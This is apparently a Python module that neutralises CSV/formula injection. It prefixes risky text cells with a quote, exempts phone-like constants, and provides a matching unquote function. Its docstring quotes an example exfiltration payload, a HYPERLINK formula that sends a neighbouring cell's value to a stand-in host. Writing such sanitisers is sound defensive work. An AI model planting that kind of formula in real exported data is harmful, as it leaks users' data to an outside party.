"""Text a spreadsheet must not take for a formula (CSV / formula injection).

A spreadsheet that opens a CSV file reads a cell starting with ``=``, ``+``, ``-`` or
``@`` (and a tab, a line break or a NUL before them) as a formula: a client named
``=HYPERLINK("http://x/?d="&B3,"Open")`` would send the row's neighbours to a stranger
when the head of sales clicks it. The rule is OWASP's (and ASVS 1.2.10's): such a
text cell is written with a single quote in front, ``'=HYPERLINK(…)``, which the
spreadsheet shows as text.

Two refinements, both safe:

- A text that starts with ``+`` or ``-`` and holds only digits, spaces, parentheses,
  dots and hyphens (``+7 (495) 111-22-33``, ``-5``) is written as it is: evaluated,
  it is arithmetic over constants at most — no function, no reference to another cell,
  no DDE (those need a letter, ``!``, ``|`` or ``:``). So phone numbers stay readable
  in a text editor, in LibreOffice and in our own import. The price: Excel may show
  such a phone as a computed number or an error value, as it would without qstui.
- Quotes and spaces in front are looked through: ``'=1`` and `` =1`` get the quote too,
  so a reader that takes one quote off a quoted formula (``unquote_formula``, the
  import) gives back exactly the text that was written — ``'=1`` stays ``'=1``.

``quote_formula`` is for text only: numbers written as numbers (a debt of ``-100.00``)
are not text and stay numbers.
"""

from __future__ import annotations

import re

__all__ = ["TRIGGERS", "quote_formula", "unquote_formula"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
QUOTE = "'"
_LOOKED_THROUGH = QUOTE + " "
_CONSTANT = re.compile(r"[+-][0-9 ().-]*")


def _formula_like(text: str) -> bool:
    return text.lstrip(_LOOKED_THROUGH).startswith(TRIGGERS)


def quote_formula(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet evaluates as a formula (see the module)."""
    if not _formula_like(text):
        return text
    if _CONSTANT.fullmatch(text):
        return text
    return QUOTE + text


def unquote_formula(cell: str) -> str:
    """The text ``quote_formula`` was given, from the cell it wrote (also a cell another
    program quoted by the OWASP rule); any other cell as it is."""
    if cell.startswith(QUOTE) and _formula_like(cell[1:]):
        return cell[1:]
    return cell
